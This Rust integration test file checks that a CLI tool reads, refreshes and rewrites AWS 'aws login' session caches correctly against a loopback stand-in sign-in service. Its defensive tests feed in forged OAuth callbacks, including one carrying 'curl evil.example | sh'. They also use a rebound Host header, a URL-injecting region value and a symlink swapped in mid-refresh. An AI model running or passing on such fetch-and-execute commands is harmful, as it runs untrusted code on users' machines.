//! `aws login` sessions end to end: a login cache written as the AWS CLI writes it, used
//! and refreshed by `rolecall export`/`exec` against the loopback sign-in token endpoint
//! (tests/common/signin_standin.rs), roles chained on it through moto's STS, and botocore
//! reading back the file rolecall rewrote.

mod common;

use chrono::{DateTime, TimeDelta, Utc};
use common::signin_standin::{SigninStandin, CLIENT_ID, LOGIN_SECRET_MARKERS};
use common::{failed, ok, Env};
use rolecall::login::{cache_key, DpopKey};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Output;

const ARN: &str = "arn:aws:iam::111122223333:user/alice";

const CONFIG: &str = "\
[profile console]
login_session = arn:aws:iam::111122223333:user/alice
region = eu-west-1

[profile admin]
role_arn = arn:aws:iam::123456789012:role/Admin
source_profile = console
";

/// An isolated environment whose sign-in endpoint is the stand-in's.
fn env_for(standin: &SigninStandin) -> Env {
    let mut env = Env::new(CONFIG, "");
    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
    env
}

fn cache_path(env: &Env) -> PathBuf {
    env.home()
        .join(".aws/login/cache")
        .join(format!("{}.json", cache_key(ARN)))
}

fn read_cache(env: &Env) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(cache_path(env)).unwrap()).unwrap()
}

fn time(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// A session as `aws login` files it (its documented shape), expiring at `expires_at`, with
/// `refresh_token` bound to `key` at the stand-in. Returns the key.
fn signed_in(standin: &SigninStandin, env: &Env, expires_at: DateTime<Utc>) -> DpopKey {
    let key = DpopKey::generate();
    standin.accept("LOGIN-REFRESH-0-FIRST", key.jwk_coordinates());
    write_cache(env, &key, expires_at);
    key
}

fn write_cache(env: &Env, key: &DpopKey, expires_at: DateTime<Utc>) {
    let blob = serde_json::json!({
        "accessToken": {
            "accessKeyId": "ASIAFROMAWSLOGIN",
            "secretAccessKey": "LOGIN-SECRET-0",
            "sessionToken": "LOGIN-SESSION-0",
            "accountId": "111122223333",
            "expiresAt": time(expires_at),
        },
        "tokenType": "aws_sigv4",
        "refreshToken": "LOGIN-REFRESH-0-FIRST",
        "idToken": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln",
        "clientId": CLIENT_ID,
        "dpopKey": key.to_pem().expose(),
    });
    let path = cache_path(env);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, blob.to_string()).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
}

fn export(env: &Env, profile: &str) -> Output {
    env.rolecall(&["export", profile, "--format", "json", "--refresh"])
}

fn exported_key(out: &Output) -> String {
    let creds: serde_json::Value = serde_json::from_str(&ok(out)).unwrap();
    creds["AccessKeyId"].as_str().unwrap().to_string()
}

/// No credential, session token or refresh token the stand-in or the cache holds.
fn assert_no_secrets(outputs: &[&Output]) {
    for out in outputs {
        let text = String::from_utf8_lossy(&out.stderr);
        for marker in LOGIN_SECRET_MARKERS.iter().chain(&["PRIVATE KEY"]) {
            assert!(!text.contains(marker), "{marker} leaked:\n{text}");
        }
    }
}

#[test]
fn fresh_credentials_in_the_cli_s_cache_are_used_without_a_call() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(12));
    let before = std::fs::read(cache_path(&env)).unwrap();

    let out = export(&env, "console");
    assert_eq!(exported_key(&out), "ASIAFROMAWSLOGIN");
    assert!(
        standin.requests().is_empty(),
        "the sign-in service was called"
    );
    assert_eq!(std::fs::read(cache_path(&env)).unwrap(), before);

    let list = ok(&env.rolecall(&["list", "--format", "json"]));
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    let console = list
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "console")
        .unwrap();
    assert_eq!(console["kind"], "login", "{console}");
}

#[test]
fn expiring_credentials_are_refreshed_with_dpop_and_written_back_for_the_cli() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(2));
    let before = read_cache(&env);

    let out = export(&env, "console");
    assert_eq!(exported_key(&out), "ASIAREFRESHED0001");
    assert_eq!(standin.requests().len(), 1, "{:?}", standin.refusals());
    let request = &standin.requests()[0];
    let body: serde_json::Value = serde_json::from_str(&request.body).unwrap();
    assert_eq!(body["grantType"], "refresh_token");
    assert_eq!(body["clientId"], CLIENT_ID);
    assert!(request.header("dpop").is_some());

    // Rotated: the old refresh token is spent, the new one is in the cache.
    assert!(!standin.accepts("LOGIN-REFRESH-0-FIRST"));
    let after = read_cache(&env);
    assert_eq!(after["refreshToken"], "LOGIN-REFRESH-1-ROTATED");
    assert!(standin.accepts("LOGIN-REFRESH-1-ROTATED"));
    assert_eq!(after["accessToken"]["accessKeyId"], "ASIAREFRESHED0001");
    assert_eq!(after["accessToken"]["accountId"], "111122223333");
    let expires = rolecall::credentials::parse_expiration(
        after["accessToken"]["expiresAt"].as_str().unwrap(),
    )
    .unwrap();
    assert!(expires > Utc::now() + TimeDelta::minutes(14), "{expires}");
    for kept in ["tokenType", "idToken", "clientId", "dpopKey"] {
        assert_eq!(after[kept], before[kept], "{kept}");
    }
    let mode = std::fs::metadata(cache_path(&env))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    let leftovers = common::temp_files(cache_path(&env).parent().unwrap());
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // `sessions` counts the refreshed credentials down.
    let sessions = ok(&env.rolecall(&["sessions", "--format", "json"]));
    let sessions: serde_json::Value = serde_json::from_str(&sessions).unwrap();
    let console = &sessions.as_array().unwrap()[0];
    assert_eq!(console["profile"], "console");
    let left = console["seconds_left"].as_i64().unwrap();
    assert!((800..=900).contains(&left), "{console}");
    assert!(
        console["source"].as_str().unwrap().contains("login ("),
        "{console}"
    );
    assert_no_secrets(&[&out]);
}

#[test]
fn the_refreshed_cache_reads_back_in_botocore_as_the_aws_cli_reads_it() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    ok(&export(&env, "console"));
    let script = "\
import sys
from botocore.credentials import LoginCredentialFetcher
from botocore.utils import JSONFileCache, LoginTokenLoader
fetcher = LoginCredentialFetcher(session_name=sys.argv[2],
    token_loader=LoginTokenLoader(JSONFileCache(sys.argv[1])), client_creator=None)
c = fetcher.load_cached_credentials()
print(c['access_key'], c['account_id'], c['expiry_time'])
";
    let out = env
        .command(common::venv_bin("python"))
        .args(["-c", script])
        .arg(cache_path(&env).parent().unwrap())
        .arg(ARN)
        .output()
        .unwrap();
    let printed = ok(&out);
    assert!(
        printed.starts_with("ASIAREFRESHED0001 111122223333 "),
        "{printed}"
    );
}

#[test]
fn a_role_chained_on_a_login_profile_is_assumed_with_its_credentials() {
    let moto = common::Moto::start();
    let standin = SigninStandin::start();
    let mut env = env_for(&standin);
    env.set("AWS_ENDPOINT_URL_STS", &moto.url);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(2));

    let arn = env.caller_arn("admin", &[]);
    assert_eq!(arn, "arn:aws:sts::123456789012:assumed-role/Admin/tester");
    assert_eq!(standin.requests().len(), 1, "{:?}", standin.refusals());
    assert_eq!(read_cache(&env)["refreshToken"], "LOGIN-REFRESH-1-ROTATED");
    let sessions = ok(&env.rolecall(&["sessions", "--format", "json"]));
    assert!(
        sessions.contains("assume-role via console → admin from login ("),
        "{sessions}"
    );
}

#[test]
fn an_ended_console_session_names_aws_login_and_leaves_the_cache_alone() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() - TimeDelta::minutes(30));
    standin.end_sessions();
    let before = std::fs::read(cache_path(&env)).unwrap();

    let out = export(&env, "console");
    let err = failed(&out);
    assert!(err.contains("TOKEN_EXPIRED"), "{err}");
    assert!(err.contains("run `aws login --profile console`"), "{err}");
    assert_eq!(std::fs::read(cache_path(&env)).unwrap(), before);
    assert_no_secrets(&[&out]);
}

#[test]
fn a_proof_signed_with_another_key_is_refused_and_said_so() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    // The cache now holds a key the refresh token is not bound to.
    write_cache(
        &env,
        &DpopKey::generate(),
        Utc::now() + TimeDelta::minutes(1),
    );

    let out = export(&env, "console");
    let err = failed(&out);
    assert!(err.contains("invalid_request"), "{err}");
    assert!(err.contains("run `aws login` again"), "{err}");
    assert_eq!(
        standin.refusals(),
        ["the proof's key is not the one the refresh token is bound to"]
    );
    assert!(standin.accepts("LOGIN-REFRESH-0-FIRST"));
    assert_no_secrets(&[&out]);
}

#[test]
fn a_damaged_key_in_the_cache_is_named_without_calling_the_service() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    let mut blob = read_cache(&env);
    blob["dpopKey"] = "-----BEGIN EC PRIVATE KEY-----\nAAAA\n-----END EC PRIVATE KEY-----\n".into();
    std::fs::write(cache_path(&env), blob.to_string()).unwrap();

    let err = failed(&export(&env, "console"));
    assert!(err.contains("dpopKey is not a P-256 private key"), "{err}");
    assert!(err.contains(&cache_key(ARN)), "{err}");
    assert!(standin.requests().is_empty());
}

#[test]
fn throttling_is_retried_and_persistent_throttling_says_to_try_again() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    standin.throttle(1);
    assert_eq!(exported_key(&export(&env, "console")), "ASIAREFRESHED0001");
    assert_eq!(standin.requests().len(), 2);

    write_cache_expiring(&env);
    standin.throttle(100);
    let err = failed(&export(&env, "console"));
    assert!(err.contains("rate_exceeded"), "{err}");
    assert!(err.contains("try again shortly"), "{err}");
    assert_eq!(
        standin.requests().len(),
        2 + 3,
        "three attempts, then the error"
    );
}

/// Marks the cached credentials as expiring, keeping the (rotated) refresh token and key.
fn write_cache_expiring(env: &Env) {
    let mut blob = read_cache(env);
    blob["accessToken"]["expiresAt"] = time(Utc::now() + TimeDelta::minutes(1)).into();
    std::fs::write(cache_path(env), blob.to_string()).unwrap();
}

#[test]
fn no_cache_names_the_sign_in_to_run_and_a_bad_arn_is_a_diagnostic() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    let err = failed(&export(&env, "console"));
    assert!(
        err.contains("not signed in with `aws login` for arn:aws:iam::111122223333:user/alice"),
        "{err}"
    );
    assert!(err.contains("run `aws login --profile console`"), "{err}");

    let env = Env::new("[profile typo]\nlogin_session = alice\n", "");
    let check = String::from_utf8(env.rolecall(&["check"]).stdout).unwrap();
    assert!(
        check.contains("login_session 'alice' is not the ARN"),
        "{check}"
    );
}

#[test]
fn the_login_cache_directory_can_be_moved() {
    let standin = SigninStandin::start();
    let mut env = env_for(&standin);
    let key = DpopKey::generate();
    standin.accept("LOGIN-REFRESH-0-FIRST", key.jwk_coordinates());
    write_cache(&env, &key, Utc::now() + TimeDelta::minutes(10));
    let moved = env.dir.path().join("moved");
    std::fs::rename(cache_path(&env).parent().unwrap(), &moved).unwrap();
    env.set("AWS_LOGIN_CACHE_DIRECTORY", &moved.display().to_string());
    assert_eq!(exported_key(&export(&env, "console")), "ASIAFROMAWSLOGIN");
}

/// The TUI as a person uses it: the login profile is listed as `login`, Enter refreshes its
/// expiring credentials through the sign-in service and shows their 15-minute countdown.
#[test]
fn enter_on_a_login_profile_in_the_tui_gives_a_countdown() {
    use common::tmux::Tmux;
    use std::time::Duration;
    assert!(Tmux::available(), "tmux is needed: run `bash .ci/setup`");
    let wait = Duration::from_secs(15);
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(2));
    let vars: Vec<(&str, &str)> = env
        .vars
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .chain([("SHELL", "/bin/sh")])
        .collect();
    let t = Tmux::start("login", 120, 30, env.dir.path(), &vars);
    t.run(env!("CARGO_BIN_EXE_rolecall"));
    t.wait_for_all(&["console", "login"], wait);
    t.send_text("console");
    t.wait_for("Profiles 1/2", wait);
    t.send_keys(&["Enter"]);
    let screen = t.wait_until("the login session's countdown", wait, |s| {
        s.contains("Sessions 1") && (s.contains("15:00") || s.contains("14:5"))
    });
    assert!(
        !screen.contains("LOGIN-"),
        "a secret is on screen:\n{screen}"
    );
    assert_eq!(standin.requests().len(), 1, "{:?}", standin.refusals());
    assert_eq!(read_cache(&env)["refreshToken"], "LOGIN-REFRESH-1-ROTATED");
    t.send_keys(&["C-c"]);
}

/// `rolecall login` started with a recording browser; the child and the URL it opened.
fn start_login(
    env: &Env,
    args: &[&str],
) -> (std::process::Child, String, common::RecordingBrowser) {
    // A browser of its own each time: the last one's recorded URL is not this one's.
    let dir = tempfile::tempdir_in(env.dir.path()).unwrap().keep();
    let browser = common::RecordingBrowser::new(&dir);
    let child = env
        .command(env!("CARGO_BIN_EXE_rolecall"))
        .args(["login"])
        .args(args)
        .env("BROWSER", browser.var())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let url = browser.url();
    (child, url, browser)
}

#[test]
fn rolecall_login_signs_in_with_pkce_and_writes_the_cache_both_tools_read() {
    let standin = SigninStandin::start();
    let env = Env::new("[profile other]\nregion = eu-west-1\n", "");
    let mut env = env;
    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
    let (child, url, _browser) =
        start_login(&env, &["--profile", "console", "--region", "eu-west-1"]);
    assert!(
        url.starts_with(&format!("{}/v1/authorize?", standin.url)),
        "{url}"
    );

    let (status, page) = common::signin_standin::follow(&url);
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("Signed in."), "{page}");
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("signed in as arn:aws:iam::111122223333:user/alice"),
        "{stderr}"
    );
    assert_no_secrets(&[&out]);

    // The cache the AWS CLI reads, under the ARN's SHA-256, 0600, with the new key.
    let cache = read_cache(&env);
    assert_eq!(cache["accessToken"]["accountId"], "111122223333");
    assert_eq!(cache["clientId"], CLIENT_ID);
    assert_eq!(cache["signInRegion"], "eu-west-1");
    assert!(cache["dpopKey"]
        .as_str()
        .unwrap()
        .starts_with("-----BEGIN EC PRIVATE KEY-----"));
    let mode = std::fs::metadata(cache_path(&env))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    // The profile names the session, as `aws login` writes it.
    let config = std::fs::read_to_string(env.home().join(".aws/config")).unwrap();
    assert!(
        config.ends_with(
            "\n[profile console]\nlogin_session = arn:aws:iam::111122223333:user/alice\n"
        ),
        "{config}"
    );
    // Used at once, then refreshed with the key rolecall made (bound at the exchange).
    assert_eq!(exported_key(&export(&env, "console")), "ASIAREFRESHED0002");
    write_cache_expiring(&env);
    assert_eq!(exported_key(&export(&env, "console")), "ASIAREFRESHED0003");
    assert!(standin.refusals().is_empty(), "{:?}", standin.refusals());
}

/// The sign-in's `state` and its listener's `127.0.0.1:PORT`, from the authorize URL.
fn state_and_listener(url: &str) -> (String, String) {
    let param = |name: &str| {
        let value = url.split(&format!("{name}=")).nth(1).unwrap();
        value.split('&').next().unwrap().to_string()
    };
    let redirect = param("redirect_uri")
        .replace("%3A", ":")
        .replace("%2F", "/");
    let addr = redirect
        .trim_start_matches("http://")
        .trim_end_matches("/oauth/callback")
        .to_string();
    (param("state"), addr)
}

/// Sends `request` as it is to `addr`; the whole reply.
fn raw_request(addr: &str, request: &str) -> String {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut reply = String::new();
    let _ = stream.read_to_string(&mut reply);
    reply
}

/// A GET of `target` on `addr` naming `host`.
fn raw_get(addr: &str, target: &str, host: &str) -> String {
    raw_request(
        addr,
        &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    )
}

#[test]
fn forged_callbacks_are_ignored_and_the_sign_in_goes_on() {
    let standin = SigninStandin::start();
    let mut env = Env::new("", "");
    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
    let (child, url, _b) = start_login(&env, &["--profile", "console"]);
    let (state, addr) = state_and_listener(&url);
    // A local program that connects and says nothing holds nothing up.
    let _idle = std::net::TcpStream::connect(&addr).unwrap();
    let forged = [
        // Another state, with a code or with words for the terminal.
        raw_get(
            &addr,
            "/oauth/callback?code=FORGED&state=forged-state",
            &addr,
        ),
        raw_get(
            &addr,
            "/oauth/callback?error=access_denied&error_description=run+curl&state=forged-state",
            &addr,
        ),
        // The right state from a page on a name rebound to 127.0.0.1, or not a GET.
        raw_get(
            &addr,
            &format!("/oauth/callback?code=FORGED&state={state}"),
            "rebound.example",
        ),
        raw_request(
            &addr,
            &format!(
                "POST /oauth/callback?code=FORGED&state={state} HTTP/1.1\r\nHost: {addr}\r\n\r\n"
            ),
        ),
    ];
    for reply in &forged {
        assert!(reply.starts_with("HTTP/1.1 4"), "{reply}");
        assert!(
            !reply.contains("FORGED") && !reply.contains("curl"),
            "{reply}"
        );
    }

    let (status, page) = common::signin_standin::follow(&url);
    assert_eq!(status, 200, "{page}");
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(standin.refusals().is_empty(), "{:?}", standin.refusals());
    assert_eq!(read_cache(&env)["clientId"], CLIENT_ID);
}

#[test]
fn a_refusal_from_the_sign_in_page_names_only_its_error_code() {
    let standin = SigninStandin::start();
    let mut env = Env::new("", "");
    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);
    let (child, url, _b) = start_login(&env, &["--profile", "console"]);
    let (state, addr) = state_and_listener(&url);
    let reply = raw_get(
        &addr,
        &format!("/oauth/callback?state={state}&error=access_denied&error_description=Run+curl+evil.example+%7C+sh"),
        &addr,
    );
    assert!(!reply.contains("curl"), "{reply}");
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("access_denied"), "{stderr}");
    assert!(!stderr.contains("curl"), "{stderr}");
    assert!(!cache_path(&env).exists());
}

#[test]
fn a_sign_in_whose_verifier_does_not_match_writes_nothing() {
    let standin = SigninStandin::start();
    let mut env = Env::new("", "");
    env.set("AWS_ENDPOINT_URL_SIGNIN", &standin.url);

    // Another challenge than rolecall's verifier hashes to: the service refuses the code.
    let (child, url, _b) = start_login(&env, &["--profile", "console"]);
    let challenge = url.split("code_challenge=").nth(1).unwrap().to_string();
    let forged = url.replace(&challenge, &"A".repeat(43));
    common::signin_standin::follow(&forged);
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("invalid_grant"), "{stderr}");
    assert_eq!(standin.refusals(), ["the PKCE verifier does not match"]);
    assert!(!cache_path(&env).exists());
    let config = std::fs::read_to_string(env.home().join(".aws/config")).unwrap();
    assert!(config.is_empty(), "{config}");
}

#[test]
fn login_refuses_a_region_that_is_not_a_region_name_naming_the_setting() {
    let env = Env::new("[profile evil]\nregion = evil.example/x#\n", "");
    let err = failed(&env.rolecall(&["login", "--profile", "evil", "--no-browser"]));
    assert!(
        err.contains("the region of profile 'evil' is not a region name"),
        "{err}"
    );
    assert!(!err.contains("evil.example"), "{err}");
    let err = failed(&env.rolecall(&["login", "--profile", "new", "--region", "a.b/c#"]));
    assert!(err.contains("--region is not a region name"), "{err}");
}

#[test]
fn login_refuses_a_profile_with_other_credentials() {
    let env = Env::new("[profile keys]\ncredential_process = /bin/true\n", "");
    let err = failed(&env.rolecall(&["login", "--profile", "keys"]));
    assert!(
        err.contains("already has credential_process credentials"),
        "{err}"
    );
}

#[test]
fn a_refresh_that_loses_a_race_with_the_aws_cli_uses_the_cli_s_credentials() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    // What the AWS CLI writes when its refresh with the same token wins.
    let mut theirs = read_cache(&env);
    theirs["accessToken"]["accessKeyId"] = "ASIAREFRESHEDBYCLI".into();
    theirs["accessToken"]["expiresAt"] = time(Utc::now() + TimeDelta::minutes(15)).into();
    theirs["refreshToken"] = "LOGIN-REFRESH-CLI".into();
    standin.lose_next_race(cache_path(&env), theirs.to_string());

    let out = export(&env, "console");
    assert_eq!(exported_key(&out), "ASIAREFRESHEDBYCLI");
    assert_eq!(read_cache(&env), theirs, "the CLI's file was overwritten");
}

#[test]
fn exec_with_the_credential_endpoint_serves_a_login_session() {
    let moto = common::Moto::start();
    let standin = SigninStandin::start();
    let mut env = env_for(&standin);
    env.set("AWS_ENDPOINT_URL_STS", &moto.url);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(2));
    let out = env.rolecall(&[
        "exec",
        "--server",
        "console",
        "--",
        "aws",
        "sts",
        "get-caller-identity",
        "--output",
        "json",
    ]);
    let identity: serde_json::Value = serde_json::from_str(&ok(&out)).unwrap();
    assert!(identity["Account"].is_string(), "{identity}");
    assert_eq!(standin.requests().len(), 1, "{:?}", standin.refusals());
    assert_no_secrets(&[&out]);
}

#[test]
fn a_refresh_token_that_cannot_be_written_back_is_said_so_at_once() {
    let standin = SigninStandin::start();
    let env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    // While the refresh is under way, a symbolic link takes the file's place: rolecall
    // never writes through one, so the rotated refresh token cannot be kept.
    let path = cache_path(&env);
    let elsewhere = env.dir.path().join("elsewhere.json");
    let planted = (path.clone(), elsewhere.clone());
    standin.before_next_refresh(move || {
        std::fs::rename(&planted.0, &planted.1).unwrap();
        std::os::unix::fs::symlink(&planted.1, &planted.0).unwrap();
    });
    let before = std::fs::read(&path).unwrap();

    let out = export(&env, "console");
    let err = failed(&out);
    assert!(err.contains("rotated the refresh token"), "{err}");
    assert!(err.contains("run `aws login --profile console`"), "{err}");
    assert_eq!(
        std::fs::read(&elsewhere).unwrap(),
        before,
        "written through the link"
    );
    assert_no_secrets(&[&out]);
}

#[test]
fn an_unreachable_sign_in_service_is_named_with_the_cause() {
    let standin = SigninStandin::start();
    let mut env = env_for(&standin);
    signed_in(&standin, &env, Utc::now() + TimeDelta::minutes(1));
    // A port nothing listens on: bound, then closed.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    env.set(
        "AWS_ENDPOINT_URL_SIGNIN",
        &format!("http://127.0.0.1:{port}"),
    );
    let err = failed(&export(&env, "console"));
    assert!(
        err.contains(&format!(
            "cannot reach the sign-in service at http://127.0.0.1:{port} for {ARN}"
        )),
        "{err}"
    );
    assert!(err.contains("refused"), "{err}");
}
